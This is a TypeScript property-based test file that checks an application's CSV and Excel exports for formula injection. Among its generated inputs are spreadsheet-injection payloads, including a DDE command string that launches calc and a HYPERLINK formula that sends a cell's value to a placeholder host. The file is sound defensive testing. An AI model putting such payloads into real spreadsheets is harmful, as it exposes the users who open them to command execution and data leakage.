import fc from 'fast-check'
import { afterAll, describe, expect, it } from 'vitest'
import { modules } from '../../src/modules.ts'
import { exportColumns, exportWorkbook } from '../../src/loop/collect/export/export-table.ts'
import { writeCsv } from '../../src/platform/csv/write-csv.ts'
import { markProblems } from '../../src/platform/excel/mark-problems.ts'
import { TempFiles } from '../../src/platform/excel/testing/temp-files.ts'
import type { WorkbookSpec } from '../../src/platform/excel/workbook-spec.ts'
import { writeWorkbook } from '../../src/platform/excel/write-workbook.ts'
import { dangers, fieldsOf, runs } from '../hostile/would-run.ts'

const SEED = 20251120
const files = new TempFiles()
afterAll(() => files.drop())

/** Beginnings that some spreadsheet takes for a formula, the wide forms of Chinese keyboards included. */
const START = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const REST = [
  '1+1',
  'HYPERLINK("http://example.invalid/?"&A1,"看")',
  "cmd|'/c calc'!A1",
  '@SUM(1)',
  "'=1",
  ',=1',
  '"=1',
  '\r\n=1',
  ' ',
  '',
]
const hostile = fc
  .tuple(
    fc.constantFrom('', "'", ' '),
    fc.constantFrom(...START),
    fc.constantFrom(...REST),
    fc.string({ maxLength: 6 }),
  )
  .map((parts) => parts.join(''))
const table = fc.array(fc.array(hostile, { minLength: 3, maxLength: 3 }), { minLength: 1, maxLength: 5 })

const workbook = (rows: readonly (readonly string[])[]): WorkbookSpec => ({
  properties: { title: rows[0]![0]!, creator: rows[0]![1]! },
  sheets: [
    {
      name: '表',
      columns: (['text', 'number', 'date'] as const).map((format, i) => ({
        header: rows[0]![i]!,
        hint: rows[0]![i]!,
        width: 10,
        format,
        note: rows[0]![i]!,
      })),
      rows,
    },
  ],
})

describe('files that we write', () => {
  it('CSV: no field begins like a formula, whatever was typed in', () => {
    fc.assert(
      fc.property(table, (rows) => {
        expect(fieldsOf(writeCsv(rows).slice(1)).filter(runs)).toEqual([])
      }),
      { seed: SEED, numRuns: 400 },
    )
  })

  it('CSV: the check sees a field that would run', () => {
    expect(fieldsOf('a,"=1,2",\'=3\r\n＝4').filter(runs)).toEqual(['=1,2', '＝4'])
  })

  it('XLSX: no cell is a formula and nothing leads outside', async () => {
    await fc.assert(
      fc.asyncProperty(table, async (rows) => {
        expect(dangers(await writeWorkbook(workbook(rows)))).toEqual([])
      }),
      { seed: SEED, numRuns: 60 },
    )
  })

  it('XLSX: a ledger as exported, for every register', async () => {
    for (const register of modules.flatMap((m) => m.register ?? [])) {
      const columns = exportColumns(register, [])
      const rows = START.map((c) => columns.map(() => `${c}1+1`))
      const spec = exportWorkbook(register.entity, columns, rows, [['范围', '=1+1']], '=1+1 &A&D')
      expect(dangers(await writeWorkbook(spec)), register.code).toEqual([])
    }
  })

  it('XLSX: a CSV that comes back with its problems marked', async () => {
    await fc.assert(
      fc.asyncProperty(table, hostile, async (rows, message) => {
        const source = await files.put(`姓名,编号,备注\r\n${writeCsv(rows).slice(1)}`, '教师.csv')
        const problem = {
          sheet: '教师',
          row: 2,
          column: 1,
          code: 'x',
          severity: 'block',
          message,
          advice: message,
        } as const
        expect(dangers(await markProblems(source, [problem]))).toEqual([])
      }),
      { seed: SEED, numRuns: 25 },
    )
  })
})
